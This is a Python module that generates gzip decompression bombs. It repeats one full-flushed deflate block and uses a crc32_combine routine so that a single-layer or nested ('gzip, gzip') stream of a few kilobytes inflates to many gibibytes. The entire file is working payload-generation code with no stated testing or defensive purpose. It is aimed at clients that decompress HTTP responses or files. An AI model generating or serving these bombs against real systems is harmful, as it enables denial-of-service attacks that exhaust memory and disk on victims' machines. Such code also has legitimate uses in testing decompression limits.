"""Gzip bombs built from one repeated deflate block, so nothing large is ever held or computed.

A megabyte of spaces compressed at level 9 and ended with a full flush is a block of
about 1 KB that refers to nothing before it: the same bytes stand for every further
megabyte. A gzip stream of N such blocks inflates to N MiB; its CRC-32 comes from
`crc32_combine` (zlib's GF(2) method), not from reading N MiB.

- `single_bomb(mib)`: one gzip layer, about 1 MB on the wire per GiB inflated (gzip's
  ratio tops out near 1:1032);
- `nested_bomb(mib)`: the same stream gzipped again (`Content-Encoding: gzip, gzip`):
  the inner stream is periodic, so the outer layer is a few KB for many GiB.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

MIB = 1024 * 1024
_GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # deflate, no name, no mtime, best compression
_CRC_POLYNOMIAL = 0xEDB88320


@dataclass(frozen=True)
class Periodic:
    """A byte stream written as head + unit × count + tail, and what it inflates to."""

    head: bytes
    unit: bytes
    count: int
    tail: bytes
    inflated: int  # bytes after every layer is decompressed

    @property
    def wire_bytes(self) -> int:
        return len(self.head) + len(self.unit) * self.count + len(self.tail)

    def chunks(self, units_per_chunk: int = 64) -> Iterator[bytes]:
        yield self.head
        batch = self.unit * units_per_chunk
        whole, rest = divmod(self.count, units_per_chunk)
        for _ in range(whole):
            yield batch
        yield self.unit * rest + self.tail

    def materialise(self) -> bytes:
        """The whole stream at once: only for small ones (the nested bomb is a few KB)."""
        return b"".join(self.chunks())


def single_bomb(mib: int) -> Periodic:
    """A gzip stream of `mib` MiB of spaces."""
    return _gzip_of_repeats(b" " * MIB, mib)


@cache
def nested_bomb(mib: int) -> bytes:
    """`single_bomb(mib)` gzipped once more: a few KB that inflate twice to `mib` MiB
    (`mib` a multiple of 1024)."""
    inner = single_bomb(mib)
    repeats_per_unit = 1024  # about 1 MB of inner stream per outer unit
    assert inner.count % repeats_per_unit == 0
    outer_block = _repeating_block(inner.unit * repeats_per_unit)
    head = _deflate(inner.head, zlib.Z_FULL_FLUSH)
    # a full flush leaves the compressor as new: what follows compresses as if alone
    tail = _deflate(inner.tail, zlib.Z_FINISH)
    units = inner.count // repeats_per_unit
    crc = crc32_combine(zlib.crc32(inner.head), _repeated_crc(inner.unit * repeats_per_unit, units), len(inner.unit) * inner.count)
    crc = crc32_combine(crc, zlib.crc32(inner.tail), len(inner.tail))
    trailer = struct.pack("<II", crc, inner.wire_bytes & 0xFFFFFFFF)
    return _GZIP_HEADER + head + outer_block * units + tail + trailer


@cache
def _gzip_of_repeats(block: bytes, count: int) -> Periodic:
    unit = _repeating_block(block)
    finish = _deflate(b"", zlib.Z_FINISH)  # an empty final block, after the repeated ones
    trailer = struct.pack("<II", _repeated_crc(block, count), (len(block) * count) & 0xFFFFFFFF)
    return Periodic(_GZIP_HEADER, unit, count, finish + trailer, len(block) * count)


@cache
def _repeating_block(data: bytes) -> bytes:
    """Raw deflate of `data` ending in a full flush, proven to repeat byte for byte."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)
    second = compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert first == second, "a full flush should leave the compressor as it started"
    return first


def _deflate(data: bytes, flush_mode: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush(flush_mode)


def _repeated_crc(block: bytes, count: int) -> int:
    """CRC-32 of `block` repeated `count` times, by doubling."""
    crc, length = 0, 0
    power_crc, power_length = zlib.crc32(block), len(block)
    while count:
        if count & 1:
            crc = crc32_combine(crc, power_crc, power_length) if length else power_crc
            length += power_length
        count >>= 1
        if count:
            power_crc = crc32_combine(power_crc, power_crc, power_length)
            power_length *= 2
    return crc


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """CRC-32 of A + B from crc(A), crc(B) and len(B) (zlib's crc32_combine)."""
    if length2 <= 0:
        return crc1
    odd = [_CRC_POLYNOMIAL] + [1 << n for n in range(31)]  # the operator for one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four
    while True:
        even = _gf2_square(odd)
        if length2 & 1:
            crc1 = _gf2_times(even, crc1)
        length2 >>= 1
        if not length2:
            break
        odd = _gf2_square(even)
        if length2 & 1:
            crc1 = _gf2_times(odd, crc1)
        length2 >>= 1
        if not length2:
            break
    return crc1 ^ crc2


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, row = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]
